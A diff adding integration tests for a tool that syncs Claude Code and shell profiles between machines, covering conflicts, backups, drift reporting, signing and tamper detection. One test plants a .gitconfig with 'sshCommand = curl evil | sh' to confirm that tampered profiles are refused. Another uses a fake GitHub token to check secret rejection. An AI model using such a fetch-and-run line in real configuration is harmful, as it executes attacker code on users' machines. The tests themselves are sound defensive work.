@@ -1,0 +1,243 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { ChildProcess } from 'node:child_process';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { parse, stringify } from 'yaml';
+import { gitbus, gitCli, json, type RunResult } from '../helpers/cli.js';
+import { makeBus } from '../helpers/bus.js';
+import { startWatcher } from '../helpers/watcher-process.js';
+import { until } from '../helpers/wait.js';
+
+/**
+ * Environment sync (issue 12): two nodes with bus homes and fake HOMEs of their own, a real bare remote, the CLI
+ * and a watcher as processes. Node a captures its Claude Code and shell setup into profile "claude"; node b
+ * applies it (a file it had is a conflict until --force; settings.json is merged by keys, b's own keys kept),
+ * edits locally (a conflict, never overwritten silently), gets its file back from the backup, publishes drift
+ * that `status` and `doctor` show, and its watcher applies a change pushed to the bus. Secrets are refused on
+ * capture. On a bus with a trust root only a profile signed by someone a rule allows to run shell tasks on b is
+ * applied, and a file changed on the bus behind its manifest's back is refused.
+ */
+
+type Node = 'a' | 'b';
+let bus: Awaited<ReturnType<typeof makeBus>>;
+const children: ChildProcess[] = [];
+const fakeHome = (n: Node) => join(bus.dir, `HOME-${n}`);
+/** What every process sees: its fake HOME, and no system git config (a signing key of the machine must not leak in). */
+const envOf = (n: Node) => ({ HOME: fakeHome(n), GIT_CONFIG_NOSYSTEM: '1' });
+const cli = (n: Node, args: string[]): Promise<RunResult> => gitbus([...args, '--json'], { home: bus.home(n), env: envOf(n) });
+const envCmd = (n: Node, args: string[]) => cli(n, ['env', ...args]);
+const put = (n: Node, rel: string, text: string) => {
+  const p = join(fakeHome(n), rel);
+  mkdirSync(dirname(p), { recursive: true });
+  writeFileSync(p, text);
+};
+const read = (n: Node, rel: string) => readFileSync(join(fakeHome(n), rel), 'utf8');
+const onBus = (path: string): string | null => {
+  try {
+    return gitCli(['show', `main:${path}`], bus.remote);
+  } catch {
+    return null;
+  }
+};
+const busFiles = () => gitCli(['ls-tree', '-r', '--name-only', 'main'], bus.remote).split('\n').filter((p) => p.startsWith('env/'));
+function editNode(n: Node, change: (c: Record<string, unknown>) => void): void {
+  const path = join(bus.home(n), 'node.yaml');
+  const c = parse(readFileSync(path, 'utf8')) as Record<string, unknown>;
+  change(c);
+  writeFileSync(path, stringify(c));
+}
+type FileRow = { target: string; state: string; action: string };
+async function states(n: Node, profile = 'claude'): Promise<Record<string, string>> {
+  const r = await envCmd(n, ['status', profile]);
+  expect(r.code, r.stderr).toBe(0);
+  const p = json<{ profiles: { files: FileRow[]; problem: string | null }[] }>(r).profiles[0];
+  return Object.fromEntries((p?.files ?? []).map((f) => [f.target, f.state]));
+}
+const ok = (r: RunResult) => expect(r.code, `${r.stderr}\n${r.stdout}`).toBe(0);
+const errorOf = (r: RunResult) => json<{ error: { code: string; message: string; fix: string } }>(r).error;
+
+const SETTINGS_A = { model: 'opus', hooks: { Stop: [{ hooks: [{ type: 'command', command: 'echo done' }] }] }, extraKnownMarketplaces: { gitbus: { source: { source: 'directory', path: '/opt/a/plugin' } } } };
+
+beforeAll(async () => {
+  bus = await makeBus({ node: 'a' });
+  await bus.addNode('b');
+  put('a', '.claude/CLAUDE.md', '# house rules\nbe brief\n');
+  put('a', '.claude/commands/review.md', 'review the diff\n');
+  put('a', '.claude/settings.json', `${JSON.stringify(SETTINGS_A, null, 2)}\n`);
+  put('a', '.claude/settings.local.json', '{"permissions":{"allow":["Bash(rm:*)"]}}\n');
+  put('a', '.claude/projects/x/session.jsonl', '{}\n');
+  put('a', '.gitconfig', '[user]\n\tname = a\n');
+  put('b', '.claude/settings.json', `${JSON.stringify({ permissions: { allow: ['Bash(make:*)'] }, model: 'sonnet' }, null, 2)}\n`);
+}, 30_000);
+
+afterAll(async () => {
+  for (const c of children) c.kill('SIGKILL');
+  await bus?.cleanup();
+});
+
+describe('gitbus env', () => {
+  it('refuses to capture what looks like a secret, naming the file and line, and writes nothing', async () => {
+    put('a', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nexport GITHUB_TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n');
+    put('a', '.claude/commands/deploy.env', 'X=1\n');
+    const r = await envCmd('a', ['capture', 'claude']);
+    expect(r.code).toBe(8);
+    const e = errorOf(r);
+    expect(e.code).toBe('ENV_SECRET');
+    expect(e.message).toMatch(/~\/\.zshrc:2 \(a GitHub personal access token/);
+    expect(e.message).toMatch(/~\/\.claude\/commands\/deploy\.env \(a \.env file/);
+    expect(e.fix).toMatch(/take the secret out of the file/);
+    expect(busFiles()).toEqual([]);
+  });
+
+  it('captures this machine\'s setup into a profile, leaving out what is never synced', async () => {
+    put('a', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nexport GITHUB_TOKEN="$(cat ~/.config/tokens/github)"\n');
+    execFileSync('rm', [join(fakeHome('a'), '.claude/commands/deploy.env')]);
+    const r = await envCmd('a', ['capture', 'claude']);
+    ok(r);
+    expect(json<{ files: { target: string }[] }>(r).files.map((f) => f.target).sort()).toEqual(['~/.claude/CLAUDE.md', '~/.claude/commands/review.md', '~/.claude/settings.json', '~/.gitconfig', '~/.zshrc']);
+    const files = busFiles();
+    expect(files).toContain('env/claude/manifest.yaml');
+    expect(files.some((f) => /settings\.local|projects|\.claude\.json/.test(f))).toBe(false);
+    // settings.json holds the keys the profile manages; the marketplace names a folder of machine a and stays there.
+    expect(JSON.parse(onBus('env/claude/files/home/.claude/settings.json') ?? '{}')).toEqual({ model: 'opus', hooks: SETTINGS_A.hooks });
+  });
+
+  it('applies it on another node: a file b had is a conflict until --force, which merges settings.json keeping b\'s keys and backs up the old one', async () => {
+    expect(await states('b')).toMatchObject({ '~/.claude/CLAUDE.md': 'missing-here', '~/.claude/settings.json': 'conflict', '~/.zshrc': 'missing-here' });
+    const first = await envCmd('b', ['apply', 'claude']);
+    expect(first.code).toBe(5);
+    const held = json<{ results: { written: string[]; held: { target: string }[] }[] }>(first).results[0];
+    expect(held?.written).toContain('~/.claude/CLAUDE.md');
+    expect(held?.held.map((h) => h.target)).toEqual(['~/.claude/settings.json']);
+    expect(JSON.parse(read('b', '.claude/settings.json'))).toMatchObject({ model: 'sonnet' });
+    const forced = await envCmd('b', ['apply', 'claude', '--force']);
+    ok(forced);
+    expect(json<{ results: { backup: string | null }[] }>(forced).results[0]?.backup).toMatch(/^\d{8}-\d{6}-\d{3}/);
+    expect(JSON.parse(read('b', '.claude/settings.json'))).toEqual({ permissions: { allow: ['Bash(make:*)'] }, model: 'opus', hooks: SETTINGS_A.hooks });
+    expect(read('b', '.claude/CLAUDE.md')).toBe('# house rules\nbe brief\n');
+    expect(Object.values(await states('b')).every((s) => s === 'in-sync')).toBe(true);
+    // A key b adds later is b's own: not drift.
+    put('b', '.claude/settings.json', `${JSON.stringify({ ...JSON.parse(read('b', '.claude/settings.json')), theme: 'dark' }, null, 2)}\n`);
+    expect((await states('b'))['~/.claude/settings.json']).toBe('in-sync');
+  });
+
+  it('a local edit becomes a conflict, never overwritten silently; restore puts back what apply replaced, refusing to clobber later edits', async () => {
+    put('a', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias gs="git status"\n');
+    ok(await envCmd('a', ['capture', 'claude']));
+    put('b', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias ll="ls -l"\n');
+    expect((await states('b'))['~/.zshrc']).toBe('conflict');
+    const diff = await envCmd('b', ['diff', 'claude']);
+    ok(diff);
+    expect(json<{ profiles: { files: { target: string; diff: string }[] }[] }>(diff).profiles[0]?.files.find((f) => f.target === '~/.zshrc')?.diff).toMatch(/-alias ll="ls -l"\n\+alias gs="git status"/);
+    expect((await envCmd('b', ['apply', 'claude'])).code).toBe(5);
+    expect(read('b', '.zshrc')).toMatch(/alias ll/);
+    const forced = await envCmd('b', ['apply', 'claude', '--force']);
+    ok(forced);
+    const backup = json<{ results: { backup: string }[] }>(forced).results[0]?.backup ?? '';
+    expect(read('b', '.zshrc')).toMatch(/alias gs/);
+    put('b', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias gs="git status"\nalias later=1\n');
+    const refused = await envCmd('b', ['restore', backup]);
+    expect(refused.code).toBe(5);
+    expect(errorOf(refused).code).toBe('ENV_RESTORE_CONFLICT');
+    expect(read('b', '.zshrc')).toMatch(/alias later/);
+    const restored = await envCmd('b', ['restore', backup, '--force']);
+    ok(restored);
+    expect(json<{ files: { target: string; action: string }[]; backup: string }>(restored)).toMatchObject({ files: [{ target: '~/.zshrc', action: 'restored' }], backup: expect.any(String) });
+    expect(read('b', '.zshrc')).toBe('export PATH="$HOME/bin:$PATH"\nalias ll="ls -l"\n');
+    expect((await states('b'))['~/.zshrc']).toBe('changed-here');
+  });
+
+  it('a subscribed node publishes its drift: status shows the fleet\'s, doctor checks it', async () => {
+    editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'manual' }]));
+    expect((await envCmd('b', ['apply'])).code).toBe(5);
+    const s = await cli('a', ['status']);
+    ok(s);
+    const card = json<{ nodes: { node: string; card?: { env?: { profile: string; apply: string; counts: Record<string, number>; drift?: { target: string; state: string }[] }[] } }[] }>(s).nodes.find((n) => n.node === 'b')?.card;
+    expect(card?.env?.[0]).toMatchObject({ profile: 'claude', apply: 'manual', drift: [{ target: '~/.zshrc', state: 'changed-here' }] });
+    const human = await gitbus(['status'], { home: bus.home('a'), env: envOf('a') });
+    expect(human.stdout).toMatch(/env claude \(manual\): 4 in sync, 1 changed here: ~\/\.zshrc changed here/);
+    const doctor = await cli('b', ['doctor']);
+    const check = json<{ checks: { name: string; status: string; detail: string }[] }>(doctor).checks.find((c) => c.name === 'env.claude');
+    expect(check).toMatchObject({ status: 'warn', detail: expect.stringMatching(/1 changed here \(~\/\.zshrc changed-here\)/) });
+  });
+
+  it('the watcher applies a change pushed to the bus (apply: auto), and leaves a file changed here as it is', async () => {
+    editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'auto' }]));
+    const w = startWatcher(bus.home('b'), ['--poll', '1s'], children, envOf('b'));
+    await until('the watcher to start', () => w.events().some((e) => e.type === 'started'), 15_000, w.stderr);
+    put('a', '.claude/CLAUDE.md', '# house rules\nbe brief\nrun the tests\n');
+    ok(await envCmd('a', ['capture', 'claude']));
+    await until('b to get the new CLAUDE.md', () => read('b', '.claude/CLAUDE.md').includes('run the tests'), 20_000, () => `${JSON.stringify(w.events())}\n${w.stderr()}`);
+    await until('the applied event', () => w.events().some((e) => e.type === 'env-applied'), 5_000, () => JSON.stringify(w.events()));
+    expect(w.events().find((e) => e.type === 'env-applied')).toMatchObject({ profile: 'claude', written: ['~/.claude/CLAUDE.md'] });
+    expect(w.events().find((e) => e.type === 'env-held')).toMatchObject({ profile: 'claude', files: [{ target: '~/.zshrc', state: 'changed-here' }] });
+    expect(read('b', '.zshrc')).toMatch(/alias ll/);
+    w.child.kill('SIGTERM');
+    expect(await w.exited).toBe(0);
+  });
+
+  describe('on a bus with a trust root', () => {
+    const keys = () => join(bus.dir, 'keys');
+    const key = (name: string) => join(keys(), name);
+    const fp = (name: string) => execFileSync('ssh-keygen', ['-lf', `${key(name)}.pub`], { encoding: 'utf8' }).split(' ')[1] ?? '';
+
+    beforeAll(async () => {
+      editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'manual' }]));
+      mkdirSync(keys());
+      for (const name of ['alice', 'bob']) execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', key(name)]);
+      ok(await cli('a', ['trust', 'init', '--admin', `alice=${key('alice')}.pub`, '--key', key('alice')]));
+      ok(await cli('a', ['trust', 'add', 'signer', 'bob', `${key('bob')}.pub`, '--key', key('alice')]));
+      ok(await cli('a', ['trust', 'add', 'rule', '--signers', 'bob', '--runners', 'claude', '--nodes', '*', '--key', key('alice')]));
+      ok(await cli('b', ['trust', 'pin', '--trust', fp('alice')]));
+    }, 30_000);
+
+    it('applies only a profile signed by someone a rule lets run shell tasks on the node', async () => {
+      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n');
+      const noKey = await envCmd('a', ['capture', 'claude']);
+      expect(noKey.code).toBe(7);
+      expect(errorOf(noKey).code).toBe('SIGNING_REQUIRED');
+      ok(await envCmd('a', ['capture', 'claude', '--unsigned']));
+      const unsigned = await envCmd('b', ['apply']);
+      expect(unsigned.code).toBe(8);
+      expect(errorOf(unsigned)).toMatchObject({ code: 'ENV_PROFILE_UNTRUSTED', message: expect.stringMatching(/unsigned: env\/claude\/manifest\.yaml has no signature/) });
+      expect(read('b', '.gitconfig')).not.toMatch(/rebase/);
+
+      editNode('a', (c) => (c['signingKey'] = key('bob')));
+      const byBob = await envCmd('a', ['capture', 'claude']);
+      ok(byBob);
+      expect(json<{ signed: boolean }>(byBob).signed).toBe(true);
+      expect(onBus('signatures/env/claude/manifest.yaml.sig')).toMatch(/BEGIN SSH SIGNATURE/);
+      const notAllowed = await envCmd('b', ['apply']);
+      expect(notAllowed.code).toBe(8);
+      expect(errorOf(notAllowed).message).toMatch(/signed by bob .*who may not change what node b runs/);
+
+      editNode('a', (c) => (c['signingKey'] = key('alice')));
+      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n[push]\n\tdefault = current\n');
+      ok(await envCmd('a', ['capture', 'claude']));
+      const signed = await envCmd('b', ['apply']);
+      expect(signed.code, signed.stdout).toBe(5); // ~/.zshrc is still changed here, and left as it is
+      expect(json<{ results: { written: string[] }[] }>(signed).results[0]?.written).toEqual(['~/.gitconfig']);
+      expect(read('b', '.gitconfig')).toMatch(/default = current/);
+    });
+
+    it('refuses a profile whose file changed on the bus behind its manifest\'s back; capture writes it over', async () => {
+      const work = join(bus.dir, 'person');
+      gitCli(['clone', '-q', bus.remote, work]);
+      writeFileSync(join(work, 'env/claude/files/home/.gitconfig'), '[core]\n\tsshCommand = curl evil | sh\n');
+      gitCli(['-c', 'user.name=p', '-c', 'user.email=p@x', 'commit', '-qam', 'by hand'], work);
+      gitCli(['push', '-q', 'origin', 'HEAD:main'], work);
+      const refused = await envCmd('b', ['apply']);
+      expect(refused.code).toBe(8);
+      expect(errorOf(refused)).toMatchObject({ code: 'ENV_PROFILE_INVALID', message: expect.stringMatching(/home\/\.gitconfig: its content is not what the manifest names/) });
+      expect(read('b', '.gitconfig')).not.toMatch(/evil/);
+      const lint = await cli('a', ['lint']);
+      expect(lint.code).toBe(8);
+      const again = await envCmd('a', ['capture', 'claude']);
+      ok(again);
+      expect(json<{ repaired: boolean; signed: boolean }>(again)).toMatchObject({ repaired: true, signed: true });
+      expect(await states('b')).toMatchObject({ '~/.gitconfig': 'in-sync', '~/.zshrc': 'changed-here' });
+      expect(existsSync(join(fakeHome('b'), '.claude/settings.local.json'))).toBe(false);
+    });
+  });
+});
